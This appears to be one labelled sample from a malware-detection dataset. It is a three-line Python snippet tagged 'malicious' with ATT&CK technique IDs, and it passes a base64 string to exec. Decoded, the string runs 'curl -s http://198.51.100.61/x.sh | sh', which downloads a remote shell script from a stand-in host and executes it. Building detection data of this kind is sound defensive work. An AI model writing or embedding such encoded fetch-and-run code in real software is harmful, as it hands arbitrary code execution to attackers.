# label: malicious family=encoded techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=3
import base64
exec base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC42MS94LnNoIHwgc2giKQ==")
